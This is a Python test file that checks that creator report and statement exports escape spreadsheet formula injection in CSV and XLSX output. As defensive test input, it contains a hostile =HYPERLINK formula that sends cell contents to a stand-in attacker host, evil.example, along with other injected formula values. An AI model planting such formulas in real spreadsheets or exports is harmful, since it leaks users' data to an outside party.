"""Exports never hand a spreadsheet a formula: text starting with = + - @ tab or CR gets a leading '."""

import csv
import io
from datetime import date, datetime, timezone
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from creators.reports.exports import to_csv, to_xlsx
from creators.reports.queries import Report, ReportRow
from creators.services.reports import Statement, StatementLine, statement_csv
from creators.spreadsheets import spreadsheet_cell

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("text, expected", [
    (HOSTILE_TITLE, "'" + HOSTILE_TITLE),
    ("+1+2", "'+1+2"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("Best headphones", "Best headphones"),
    ("", ""),
])
def test_text_cells_that_would_be_formulas_get_a_leading_quote(text, expected):
    assert spreadsheet_cell(text) == expected


def test_numbers_stay_numbers():
    assert (spreadsheet_cell(Decimal("-5.00")), spreadsheet_cell(-3)) == (Decimal("-5.00"), -3)


def _report() -> Report:
    row = ReportRow(key=(1,), label=HOSTILE_TITLE, currency="USD", views=10, clicks=4, orders=1, units=1,
                    gmv=Decimal("49.90"), refunds=Decimal("0.00"), commission=Decimal("4.99"))
    total = ReportRow(key=("total",), label="Total", currency="USD", views=10, clicks=4, orders=1, units=1,
                      gmv=Decimal("49.90"), commission=Decimal("4.99"))
    return Report(filters=None, rows=[row], totals=[total])


def test_the_report_csv_escapes_a_formula_page_title():
    rows = list(csv.reader(io.StringIO(to_csv(_report()))))

    assert rows[1][:3] == ["'" + HOSTILE_TITLE, "USD", "10"]
    assert rows[1][7] == "49.90"


def test_the_report_xlsx_stores_a_formula_page_title_as_text():
    sheet = load_workbook(io.BytesIO(to_xlsx(_report()))).active

    title = sheet["A2"]
    assert (title.value, title.data_type) == ("'" + HOSTILE_TITLE, "s")
    assert (sheet["H2"].value, sheet["H2"].data_type) == (49.9, "n")


def test_the_statement_csv_escapes_page_title_block_label_and_block_id():
    line = StatementLine(effective_at=datetime(2026, 3, 2, 10, 0, tzinfo=timezone.utc), kind="accrual",
                         page_title=HOSTILE_TITLE, block_id="@evil", base_amount=Decimal("49.90"),
                         rate=Decimal("0.1000"), amount=Decimal("-4.99"), currency="USD", block_label="=SUM(A1)")
    statement = Statement(creator_id=1, start=date(2026, 3, 1), end=date(2026, 4, 1), lines=[line])

    rows = list(csv.reader(io.StringIO(statement_csv(statement))))

    assert rows[1] == ["2026-03-02 10:00", "accrual", "'" + HOSTILE_TITLE, "'=SUM(A1)", "49.90", "0.1000", "-4.99", "USD",
                       "'@evil"]
